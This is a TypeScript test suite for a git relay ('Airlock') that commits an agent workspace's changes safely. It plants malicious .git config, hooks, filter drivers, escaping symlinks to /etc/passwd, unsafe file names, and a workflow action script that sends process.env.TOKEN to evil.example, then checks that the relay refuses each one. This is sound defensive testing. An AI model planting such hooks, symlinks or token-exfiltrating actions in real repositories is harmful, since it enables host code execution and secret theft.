import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { access, chmod, mkdir, readFile, symlink, truncate, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, beforeEach, describe, it } from "node:test";
import { prepareRunCheckout, type RunCheckout } from "../../runner/relay/prepare-run-checkout.ts";
import { pushBranch } from "../../runner/relay/push-branch.ts";
import { relayWorkspace, type RelayPolicy, type RelayResult } from "../../runner/relay/relay-workspace.ts";
import { removeRunCheckout } from "../../runner/relay/remove-run-checkout.ts";
import { createBareRemote, createSourceRepo, git, listTree } from "../helpers/git-repo.ts";
import { defaultPolicy, makeTempDir, removeDir, silentLogger } from "./relay-fixture.ts";

const sourceFiles = {
  "README.md": "# Demo\n",
  "src/app.js": "console.log('v1');\n",
  ".github/workflows/ci.yml": "on: push\njobs: {}\n",
  ".github/workflows/release.yml": "on: release\n",
  ".github/CODEOWNERS": "* @maintainer\n",
};

describe("git relay against a hostile workspace", () => {
  let root: string;
  let remote: string;
  let markers: string;
  let checkout: RunCheckout;
  let baseDir: string;
  let runCount = 0;

  before(async () => {
    root = await makeTempDir("attacks");
    const source = await createSourceRepo(join(root, "source"), sourceFiles);
    remote = createBareRemote(source, join(root, "remote.git"));
    markers = join(root, "markers");
    await mkdir(markers);
  });

  after(async () => {
    await removeDir(root);
  });

  /** A fresh run's checkout of the remote, in its own folder. */
  async function checkoutNextRun() {
    runCount += 1;
    baseDir = join(root, `run-${runCount}`);
    checkout = await prepareRunCheckout({
      repo: remote,
      runId: `run_${runCount}`,
      baseDir,
      logger: silentLogger,
    });
  }

  beforeEach(checkoutNextRun);

  async function relay(policy: RelayPolicy = defaultPolicy): Promise<RelayResult> {
    return relayWorkspace({
      hostClone: checkout.hostClone,
      workspace: checkout.workspace,
      runId: `run_${runCount}`,
      branch: `airlock/run_${runCount}`,
      message: { subject: "Agent work", body: "Summary." },
      trailers: { "Airlock-Run": `run_${runCount}`, "Airlock-Audit": "00".repeat(32) },
      policy,
      logger: silentLogger,
    });
  }

  /** A script that leaves proof it ran. */
  async function markerScript(name: string): Promise<string> {
    const script = join(checkout.workspace, `${name}.sh`);
    await writeFile(script, `#!/bin/sh\ntouch ${join(markers, name)}\ncat >/dev/null 2>&1\nexit 0\n`);
    await chmod(script, 0o755);
    return script;
  }

  async function assertNoMarkers(): Promise<void> {
    const left = execFileSync("ls", ["-A", markers], { encoding: "utf8" });
    assert.equal(left, "", `a planted program ran on the host: ${left}`);
  }

  function committedPaths(result: RelayResult): string[] {
    assert.ok(result.commit, "expected a commit");
    return [...listTree(checkout.hostClone, result.commit).keys()].sort();
  }

  it("never runs the workspace's .git config (fsmonitor, hooksPath) or hooks", async () => {
    const script = await markerScript("fsmonitor");
    const hook = await markerScript("hook");
    const gitDir = join(checkout.workspace, ".git");
    await writeFile(
      join(gitDir, "config"),
      `[core]\n\tfsmonitor = ${script}\n\thooksPath = ${checkout.workspace}/.git/hooks\n\tsshCommand = ${script}\n[diff]\n\texternal = ${script}\n`,
    );
    for (const name of [
      "pre-commit",
      "post-commit",
      "pre-push",
      "reference-transaction",
      "post-checkout",
      "post-index-change",
    ]) {
      await writeFile(join(gitDir, "hooks", name), `#!/bin/sh\nexec ${hook}\n`);
      await chmod(join(gitDir, "hooks", name), 0o755);
    }
    await writeFile(join(checkout.workspace, "src/app.js"), "console.log('v2');\n");
    // The host clone's own hooks do not run either (hooksPath is forced to /dev/null).
    for (const name of ["post-commit", "reference-transaction", "pre-push"]) {
      await writeFile(join(checkout.hostClone, ".git/hooks", name), `#!/bin/sh\nexec ${hook}\n`);
      await chmod(join(checkout.hostClone, ".git/hooks", name), 0o755);
    }
    const result = await relay();
    await pushBranch({ hostClone: checkout.hostClone, remote, branch: result.branch, logger: silentLogger });
    await assertNoMarkers();
    assert.deepEqual(
      result.filesChanged.map((f) => f.path),
      ["fsmonitor.sh", "hook.sh", "src/app.js"],
    );
    assert.ok(!committedPaths(result).some((p) => p.startsWith(".git/")));
    assert.equal(git(remote, ["show", `${result.commit}:src/app.js`]), "console.log('v2');\n");
  });

  it("runs no filter, diff or textconv driver, even one the host clone has configured", async () => {
    const script = await markerScript("filter");
    // The attacker controls only the workspace; the host-side driver proves the relay
    // never consults attributes at all.
    for (const [key, value] of [
      ["filter.evil.clean", script],
      ["filter.evil.smudge", script],
      ["filter.evil.process", script],
      ["filter.evil.required", "true"],
      ["diff.evil.textconv", script],
      ["diff.evil.command", script],
      ["merge.evil.driver", script],
    ] as const) {
      git(checkout.hostClone, ["config", key, value]);
    }
    await writeFile(
      join(checkout.workspace, ".gitattributes"),
      "* filter=evil diff=evil merge=evil text eol=crlf\n",
    );
    await writeFile(join(checkout.workspace, "README.md"), "# Demo\nline two\n");
    const result = await relay();
    await pushBranch({ hostClone: checkout.hostClone, remote, branch: result.branch, logger: silentLogger });
    await assertNoMarkers();
    // Raw bytes, no eol conversion, no clean filter.
    assert.equal(git(remote, ["cat-file", "blob", `${result.commit}:README.md`]), "# Demo\nline two\n");
    assert.ok(committedPaths(result).includes(".gitattributes"));
  });

  it("refuses symlinks that leave the tree, commits in-tree symlinks as links", async () => {
    const ws = checkout.workspace;
    await symlink("/etc/passwd", join(ws, "passwd"));
    await symlink("../host/.git/config", join(ws, "host-config"));
    await symlink("../host", join(ws, "evil"));
    await symlink("evil/.git/config", join(ws, "via-evil"));
    await mkdir(join(ws, "nested/deeper"), { recursive: true });
    await symlink("../../../workspace/../host", join(ws, "nested/deeper/up"));
    await symlink("../README.md", join(ws, "src/readme-link"));
    await symlink(".git/config", join(ws, "to-dot-git"));
    const result = await relay();
    const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
    for (const path of ["passwd", "host-config", "evil", "via-evil", "nested/deeper/up"]) {
      assert.match(refused.get(path) ?? "", /outside the workspace/, path);
    }
    assert.match(refused.get("to-dot-git") ?? "", /\.git/);
    assert.deepEqual(result.filesChanged, [{ path: "src/readme-link", change: "added" }]);
    const tree = listTree(checkout.hostClone, result.commit ?? "");
    assert.equal(tree.get("src/readme-link")?.mode, "120000");
    assert.equal(
      git(checkout.hostClone, ["cat-file", "blob", `${result.commit}:src/readme-link`]),
      "../README.md",
    );
    const passwd = await readFile("/etc/passwd", "utf8");
    const blobs = git(checkout.hostClone, ["cat-file", "--batch-all-objects", "--batch"]);
    assert.ok(
      !blobs.includes(passwd.split("\n")[0] ?? "root:"),
      "/etc/passwd content reached the object store",
    );
    assert.ok(!committedPaths(result).some((p) => p.startsWith("evil/") || p === "passwd"));
  });

  it("refuses names git cannot store safely and nested .git directories", async () => {
    const ws = checkout.workspace;
    // A workspace cannot hold a name with "/", but a Windows checkout reads "\" as one.
    await writeFile(join(ws, "..\\..\\x"), "escape\n");
    await mkdir(join(ws, "vendor/lib/.git/hooks"), { recursive: true });
    await writeFile(join(ws, "vendor/lib/.git/hooks/post-checkout"), "#!/bin/sh\n");
    await mkdir(join(ws, "sub/.GIT"), { recursive: true });
    await writeFile(join(ws, "sub/.GIT/config"), "[core]\n");
    await mkdir(join(ws, "git~1"), { recursive: true });
    await writeFile(join(ws, "git~1/config"), "[core]\n");
    await writeFile(join(ws, "tab\tname"), "x\n");
    await writeFile(Buffer.from(`${ws}/latin1-\xe9`, "latin1"), "x\n");
    await writeFile(join(ws, "fine.txt"), "fine\n");
    const result = await relay();
    const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
    assert.match(refused.get("..\\..\\x") ?? "", /backslash/);
    assert.match(refused.get("vendor/lib/.git") ?? "", /\.git/);
    assert.match(refused.get("sub/.GIT") ?? "", /\.git/);
    assert.match(refused.get("git~1") ?? "", /\.git/);
    assert.match(refused.get("tab\tname") ?? "", /control/);
    assert.match(result.refused.find((r) => r.path.startsWith("latin1-"))?.reason ?? "", /UTF-8/);
    assert.deepEqual(result.filesChanged, [{ path: "fine.txt", change: "added" }]);
    assert.deepEqual(committedPaths(result), [...Object.keys(sourceFiles), "fine.txt"].sort());
  });

  it("refuses huge sparse files by size without reading them", async () => {
    await writeFile(join(checkout.workspace, "huge.bin"), "");
    await truncate(join(checkout.workspace, "huge.bin"), 1024 ** 3);
    // 64 GiB of zeros would take minutes to read: finishing at all shows it was not read.
    await writeFile(join(checkout.workspace, "src/app.js"), "");
    await truncate(join(checkout.workspace, "src/app.js"), 64 * 1024 ** 3);
    const started = Date.now();
    const result = await relay();
    const elapsed = Date.now() - started;
    assert.ok(elapsed < 20_000, `relay took ${elapsed} ms`);
    assert.deepEqual(
      result.refused.map((r) => r.path),
      ["huge.bin", "src/app.js"],
    );
    assert.match(result.refused[0]?.reason ?? "", /maxFileBytes/);
    assert.equal(result.commit, undefined);
  });

  it("refuses fifos and other special files without blocking", async () => {
    execFileSync("mkfifo", [join(checkout.workspace, "pipe")]);
    execFileSync("mkfifo", [join(checkout.workspace, "README.md.fifo")]);
    await writeFile(join(checkout.workspace, "ok.txt"), "ok\n");
    const result = await relay();
    assert.deepEqual(
      result.refused.map((r) => [r.path, r.reason]),
      [
        ["README.md.fifo", "special file (fifo, socket or device)"],
        ["pipe", "special file (fifo, socket or device)"],
      ],
    );
    assert.deepEqual(result.filesChanged, [{ path: "ok.txt", change: "added" }]);
  });

  it("holds back workflow and Airlock config changes unless the policy allows them", async () => {
    const ws = checkout.workspace;
    await writeFile(join(ws, ".github/workflows/ci.yml"), "on: push\njobs: { steal: {} }\n");
    execFileSync("rm", [join(ws, ".github/workflows/release.yml")]);
    await writeFile(join(ws, ".github/airlock.yml"), "allowWorkflowChanges: true\n");
    await mkdir(join(ws, ".github/airlock"));
    await writeFile(join(ws, ".github/airlock/capabilities.yml"), "packages: [curl]\n");
    await writeFile(join(ws, ".github/CODEOWNERS"), "* @agent\n");
    await writeFile(join(ws, "src/app.js"), "console.log('v3');\n");
    const held = await relay();
    assert.deepEqual(
      held.heldBack.map((h) => h.path),
      [
        ".github/airlock.yml",
        ".github/airlock/capabilities.yml",
        ".github/workflows/ci.yml",
        ".github/workflows/release.yml",
      ],
    );
    assert.deepEqual(held.filesChanged, [
      { path: ".github/CODEOWNERS", change: "modified" },
      { path: "src/app.js", change: "modified" },
    ]);
    const heldTree = listTree(checkout.hostClone, held.commit ?? "");
    assert.equal(
      heldTree.get(".github/workflows/ci.yml")?.oid,
      git(remote, ["rev-parse", "main:.github/workflows/ci.yml"]).trim(),
    );
    assert.ok(heldTree.has(".github/workflows/release.yml"));
    assert.ok(!heldTree.has(".github/airlock.yml"));

    await removeRunCheckout(baseDir);
    await checkoutNextRun();
    await writeFile(join(checkout.workspace, ".github/workflows/ci.yml"), "on: push\njobs: { lint: {} }\n");
    const allowed = await relay({ ...defaultPolicy, allowWorkflowChanges: true });
    assert.deepEqual(allowed.heldBack, []);
    assert.deepEqual(allowed.filesChanged, [{ path: ".github/workflows/ci.yml", change: "modified" }]);
  });

  it("holds back local actions and .gitmodules like workflows, and says so", async () => {
    const ws = checkout.workspace;
    // A workflow that runs `uses: ./.github/actions/setup` would run this with the repository's secrets.
    await mkdir(join(ws, ".github/actions/setup"), { recursive: true });
    await writeFile(join(ws, ".github/actions/setup/action.yml"), "runs: { using: node20, main: x.js }\n");
    await writeFile(
      join(ws, ".github/actions/setup/x.js"),
      "fetch('https://evil.example/' + process.env.TOKEN)\n",
    );
    await writeFile(
      join(ws, ".gitmodules"),
      '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n',
    );
    await writeFile(join(ws, "src/app.js"), "console.log('v4');\n");
    const result = await relay();
    assert.deepEqual(
      result.heldBack.map((h) => h.path),
      [".github/actions/setup/action.yml", ".github/actions/setup/x.js", ".gitmodules"],
    );
    for (const h of result.heldBack) assert.match(h.reason, /^added under .*allow_workflow_changes: true/);
    assert.deepEqual(result.filesChanged, [{ path: "src/app.js", change: "modified" }]);
    const tree = listTree(checkout.hostClone, result.commit ?? "");
    assert.ok(!tree.has(".gitmodules"));
    assert.ok(![...tree.keys()].some((p) => p.startsWith(".github/actions/")));
  });

  it("holds back replacing .github with a symlink and keeps its files", async () => {
    execFileSync("rm", ["-r", join(checkout.workspace, ".github")]);
    await symlink("src", join(checkout.workspace, ".github"));
    const result = await relay();
    assert.ok(result.heldBack.some((h) => h.path === ".github"));
    const tree = listTree(checkout.hostClone, result.commit ?? "HEAD");
    assert.ok(tree.has(".github/workflows/ci.yml"));
    assert.notEqual(tree.get(".github")?.mode, "120000");
  });

  it("stops at maxFiles and maxTotalBytes and reports the rest", async () => {
    for (let i = 0; i < 5; i += 1) await writeFile(join(checkout.workspace, `f${i}.txt`), "x".repeat(100));
    const byCount = await relay({ ...defaultPolicy, maxFiles: 3 });
    assert.deepEqual(
      byCount.filesChanged.map((f) => f.path),
      ["f0.txt", "f1.txt", "f2.txt"],
    );
    assert.deepEqual(
      byCount.refused.map((r) => [r.path, r.reason]),
      [
        ["f3.txt", "over the limit of 3 changed files"],
        ["f4.txt", "over the limit of 3 changed files"],
      ],
    );
    git(checkout.hostClone, ["update-ref", "-d", `refs/heads/airlock/run_${runCount}`]);
    const byBytes = await relay({ ...defaultPolicy, maxTotalBytes: 250 });
    assert.deepEqual(
      byBytes.filesChanged.map((f) => f.path),
      ["f0.txt", "f1.txt"],
    );
    assert.equal(byBytes.refused.length, 3);
    assert.match(byBytes.refused[0]?.reason ?? "", /250 changed bytes/);
  });

  it("leaves no credentials, remotes or relay leftovers in the workspace", async () => {
    await assert.rejects(access(join(checkout.workspace, "host")));
    const config = await readFile(join(checkout.workspace, ".git/config"), "utf8");
    assert.doesNotMatch(config, /remote|url|extraheader/i);
  });
});
